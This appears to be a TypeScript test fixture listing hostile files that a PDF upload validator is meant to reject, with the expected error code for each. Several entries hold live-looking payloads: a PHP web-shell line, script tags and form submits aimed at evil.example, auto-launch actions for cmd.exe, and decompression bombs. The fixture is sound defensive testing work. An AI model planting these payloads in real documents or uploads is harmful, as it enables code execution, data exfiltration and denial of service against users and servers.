import { textPdf } from '../uploading.ts'
import {
  annotated,
  bomb,
  compressedScript,
  content,
  cut,
  latin,
  linked,
  locked,
  onePage,
  packEqual,
  page,
  rawPdf,
  sized,
  zipOf,
} from './draw-pdf.ts'

/** A file that must be refused: with one of these codes. */
export type Hostile = { what: string; codes: readonly string[]; file: () => Promise<Buffer> | Buffer }

const notPdf = ['files.not-a-pdf', 'files.wrong-type', 'files.bad-form'] as const
const scripts = ['files.pdf-scripts'] as const
const actions = ['files.pdf-actions'] as const
const attachments = ['files.pdf-attachments'] as const
const unreadable = ['files.pdf-unreadable'] as const
const complex = ['files.pdf-too-complex'] as const
const mixed = ['files.pdf-mixed'] as const

export const hostilePdfs: readonly Hostile[] = [
  { what: 'nothing at all', codes: [...notPdf, 'files.empty'], file: () => Buffer.alloc(0) },
  { what: 'one byte', codes: notPdf, file: () => latin('%') },
  { what: 'a thousand zero bytes', codes: notPdf, file: () => Buffer.alloc(1_000) },
  { what: 'a text', codes: notPdf, file: () => latin('Just a text. '.repeat(50)) },
  {
    what: 'a web page',
    codes: notPdf,
    file: () => latin('<!doctype html><script>alert(1)</script>'.repeat(9)),
  },
  {
    what: 'a picture',
    codes: notPdf,
    file: () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(500)]),
  },
  { what: 'an archive', codes: notPdf, file: () => Buffer.concat([zipOf(), Buffer.alloc(500)]) },
  {
    what: 'a program of Windows',
    codes: notPdf,
    file: () => Buffer.concat([latin('MZ'), Buffer.alloc(500)]),
  },
  {
    what: 'a program of Linux',
    codes: notPdf,
    file: () => Buffer.concat([latin('\x7fELF'), Buffer.alloc(500)]),
  },
  {
    what: 'a GIF that is a script too',
    codes: notPdf,
    file: () => latin(`GIF89a=1;/*${' '.repeat(300)}*/alert(1)`),
  },
  {
    what: 'the sign of a PDF in small letters',
    codes: notPdf,
    file: async () => Buffer.from((await textPdf(1)).toString('latin1').replace('%PDF', '%pdf'), 'latin1'),
  },
  {
    what: 'a PDF behind a web page',
    codes: notPdf,
    file: async () => Buffer.concat([latin('<html>hello</html>\n'), await textPdf(1)]),
  },
  {
    what: 'a PDF behind zero bytes',
    codes: notPdf,
    file: async () => Buffer.concat([Buffer.alloc(64), await textPdf(1)]),
  },
  {
    what: 'a version that never was',
    codes: notPdf,
    file: async () =>
      Buffer.from((await textPdf(1)).toString('latin1').replace('%PDF-1.7', '%PDF-9.9'), 'latin1'),
  },
  {
    what: 'the sign of a PDF and noise',
    codes: unreadable,
    file: () => latin(`%PDF-1.7\n${'noise '.repeat(200)}`),
  },

  {
    what: 'a PDF that is a web page too',
    codes: mixed,
    file: () => onePage({ head: '%<html><body onload=alert(1)>\n' }),
  },
  {
    what: 'a PDF that is a script of a server too',
    codes: mixed,
    file: () => onePage({ head: '%<?php system($_GET[0]) ?>\n' }),
  },
  {
    what: 'a PDF that is a drawing with a script too',
    codes: mixed,
    file: () => onePage({ head: '%<svg onload=alert(1)>\n' }),
  },
  { what: 'a PDF that is an archive too', codes: mixed, file: () => Buffer.concat([onePage(), zipOf()]) },
  {
    what: 'an archive whose comment is the end of the PDF',
    codes: mixed,
    file: () => {
      const whole = onePage()
      const start = whole.lastIndexOf('startxref')
      return Buffer.concat([
        whole.subarray(0, start),
        latin('%'),
        zipOf(Buffer.concat([latin('\n'), whole.subarray(start)])),
      ])
    },
  },
  {
    what: 'a PDF with a web page behind it',
    codes: mixed,
    file: () => Buffer.concat([onePage(), latin('<script src=//evil.example></script>')]),
  },
  {
    what: 'a PDF with a program behind it',
    codes: [...mixed, ...unreadable],
    file: () => Buffer.concat([onePage(), latin('MZ'), Buffer.alloc(5_000, 7)]),
  },

  { what: 'a quarter of a file', codes: unreadable, file: cut(0.25) },
  { what: 'half a file', codes: unreadable, file: cut(0.5) },
  { what: 'nine tenths of a file', codes: unreadable, file: cut(0.9) },
  { what: 'a file without its last bytes', codes: unreadable, file: cut(0.995) },
  { what: 'a file without its beginning', codes: notPdf, file: async () => (await textPdf(5)).subarray(200) },

  { what: 'a file locked with a password', codes: ['files.pdf-encrypted'], file: locked },
  {
    what: 'a file that says it is encrypted, in a way nobody knows',
    codes: ['files.pdf-encrypted'],
    file: () => onePage({ objects: ['<< /Filter /Mine /V 99 >>'], trailer: '/Encrypt 5 0 R' }),
  },

  {
    what: 'a script that runs at opening',
    codes: [...scripts, ...actions],
    file: () => onePage({ catalogue: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }),
  },
  {
    what: 'a script in the list of names',
    codes: scripts,
    file: () =>
      onePage({ catalogue: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>' }),
  },
  {
    what: 'a script that runs when a page is seen',
    codes: scripts,
    file: () => onePage({ pageMore: '/AA << /O << /S /JavaScript /JS (1) >> >>' }),
  },
  { what: 'a script behind a link', codes: scripts, file: () => linked('/S /JavaScript /JS (1)') },
  {
    what: 'a script whose name is written in numbers',
    codes: scripts,
    file: () => linked('/S /J#61v#61Script /J#53 (1)'),
  },
  { what: 'a script in a packed object', codes: scripts, file: compressedScript },
  {
    what: 'a script kept in a stream',
    codes: scripts,
    file: () =>
      onePage({
        catalogue: '/AA << /WC << /S /JavaScript /JS 5 0 R >> >>',
        objects: [content('app.alert(1)')],
      }),
  },
  {
    what: 'a script behind a chain of actions',
    codes: scripts,
    file: () =>
      linked(
        '/S /GoTo /D [3 0 R /Fit] /Next << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (1) >> >>',
      ),
  },
  { what: 'a script as a rendition', codes: scripts, file: () => linked('/S /Rendition /OP 0') },
  {
    what: 'a form made of XFA',
    codes: scripts,
    file: () => onePage({ catalogue: '/AcroForm << /Fields [] /XFA (<xdp/>) >>' }),
  },
  {
    what: 'a program that is started at opening',
    codes: actions,
    file: () => onePage({ catalogue: '/OpenAction << /S /Launch /F (cmd.exe) >>' }),
  },
  { what: 'a program behind a link', codes: actions, file: () => linked('/S /Launch /F (calc.exe)') },
  {
    what: 'an address that is opened by itself',
    codes: actions,
    file: () => onePage({ catalogue: '/OpenAction << /S /URI /URI (https://evil.example) >>' }),
  },
  {
    what: 'another file that is opened by a link',
    codes: actions,
    file: () => linked('/S /GoToR /F (\\\\evil\\share) /D [0 /Fit]'),
  },
  {
    what: 'a file inside that is opened by a link',
    codes: actions,
    file: () => linked('/S /GoToE /D [0 /Fit]'),
  },
  {
    what: 'a form that is sent somewhere',
    codes: actions,
    file: () => linked('/S /SubmitForm /F (https://evil.example)'),
  },
  { what: 'data that is fetched', codes: actions, file: () => linked('/S /ImportData /F (data.fdf)') },
  { what: 'a film', codes: actions, file: () => annotated('/Subtype /Movie /Movie << /F (a.avi) >>') },
  { what: 'a sound', codes: actions, file: () => annotated('/Subtype /Sound') },
  { what: 'a screen for media', codes: actions, file: () => annotated('/Subtype /Screen') },
  { what: 'rich media', codes: actions, file: () => annotated('/Subtype /RichMedia') },
  { what: 'a model in three dimensions', codes: actions, file: () => annotated('/Subtype /3D') },
  {
    what: 'a file in the list of names',
    codes: attachments,
    file: () =>
      onePage({
        catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>',
      }),
  },
  {
    what: 'a file pinned to a page',
    codes: attachments,
    file: () => annotated('/Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 5 0 R >> >>'),
  },
  {
    what: 'a file that belongs to the document',
    codes: attachments,
    file: () => onePage({ catalogue: '/AF [<< /Type /Filespec >>]' }),
  },

  { what: '1,001 pages', codes: ['files.pdf-too-many-pages'], file: () => textPdf(1_001) },
  {
    what: 'one page a hundred thousand times',
    codes: ['files.pdf-too-many-pages', ...unreadable],
    file: () =>
      rawPdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        `<< /Type /Pages /Kids [${'3 0 R '.repeat(100_000)}] /Count 100000 >>`,
        page(),
        content(),
      ]),
  },
  {
    what: 'twenty thousand pages of their own',
    codes: ['files.pdf-too-many-pages'],
    file: () =>
      rawPdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        `<< /Type /Pages /Kids [${Array.from({ length: 20_000 }, (_, at) => `${at + 3} 0 R`).join(' ')}] /Count 20000 >>`,
        ...Array.from({ length: 20_000 }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>'),
      ]),
  },
  {
    what: 'a tree of pages that runs in a circle',
    codes: unreadable,
    file: () =>
      rawPdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>',
      ]),
  },
  {
    what: 'a tree of pages that holds itself',
    codes: unreadable,
    file: () => rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
  },
  {
    what: 'a tree of pages ten thousand branches deep',
    codes: ['files.pdf-too-many-pages', ...unreadable],
    file: () =>
      rawPdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        ...Array.from({ length: 10_000 }, (_, at) => `<< /Type /Pages /Kids [${at + 3} 0 R] /Count 1 >>`),
        page(),
      ]),
  },
  {
    what: 'no pages',
    codes: unreadable,
    file: () => rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
  },
  {
    what: 'a page that is not there',
    codes: unreadable,
    file: () => rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [77 0 R] /Count 1 >>']),
  },
  { what: 'no catalogue', codes: unreadable, file: () => rawPdf(['(not a catalogue)', content()]) },
  {
    what: 'a catalogue without pages',
    codes: unreadable,
    file: () => rawPdf(['<< /Type /Catalog >>', content()]),
  },
  {
    what: 'a page as large as a town',
    codes: ['files.pdf-page-size'],
    file: () => sized('/MediaBox [0 0 1000000000 1000000000]'),
  },
  {
    what: 'a page one point wide',
    codes: ['files.pdf-page-size'],
    file: () => sized('/MediaBox [0 0 1 842]'),
  },
  { what: 'a page without a size', codes: ['files.pdf-page-size'], file: () => sized('') },
  {
    what: 'a page whose size is no number',
    codes: ['files.pdf-page-size', ...unreadable],
    file: () => sized('/MediaBox [0 0 (a) (b)]'),
  },
  {
    what: 'a page whose unit makes it huge',
    codes: ['files.pdf-page-size'],
    file: () => sized('/MediaBox [0 0 595 842]', '/UserUnit 100000'),
  },

  {
    what: 'a stream that unpacks to 1.5 GB',
    codes: complex,
    file: () => {
      const half = bomb('/FlateDecode', 512_000_000)
      return onePage({ pageMore: '/X [5 0 R 6 0 R 7 0 R]', objects: [half, half, half] })
    },
  },
  {
    what: 'a picture of 60,000 by 60,000',
    codes: complex,
    file: () =>
      onePage({
        pageMore: '/X 5 0 R',
        objects: [
          '<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 4 >>\nstream\nabcd\nendstream',
        ],
      }),
  },
  {
    what: 'packed objects that unpack to 600 MB',
    codes: [...complex, ...unreadable],
    file: () => {
      const data = packEqual(0x20, 600_000_000)
      const packed = Buffer.concat([
        latin(`<< /Type /ObjStm /N 1 /First 10 /Length ${data.length} /Filter /FlateDecode >>\nstream\n`),
        data,
        latin('\nendstream'),
      ])
      return onePage({ objects: [packed] })
    },
  },
  {
    what: 'lists a hundred thousand deep',
    codes: [...complex, ...unreadable],
    file: () => onePage({ catalogue: `/X ${'['.repeat(100_000)}${']'.repeat(100_000)}` }),
  },
]
